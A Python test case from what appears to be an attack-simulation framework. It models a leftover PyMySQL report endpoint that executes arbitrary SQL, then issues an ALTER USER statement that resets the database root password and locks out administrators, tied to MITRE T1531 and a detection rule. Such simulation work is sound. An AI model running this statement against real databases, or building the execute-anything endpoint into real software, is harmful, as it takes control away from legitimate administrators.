"""F9: whoever could help is given a password that he does not know."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPyMySQL, obeyed, told


class LocksOut(AbusedPyMySQL):
    """On PyMySQL: a page for reports that was left behind, and runs whatever it is given."""

    code = "F9"
    attack = "gives the administrator another password"
    reference = "https://attack.mitre.org/techniques/T1531/"
    rule = "account-locked-out"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("ALTER USER 'root'@'%' IDENTIFIED BY 'mine now'")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"ALTER USER")
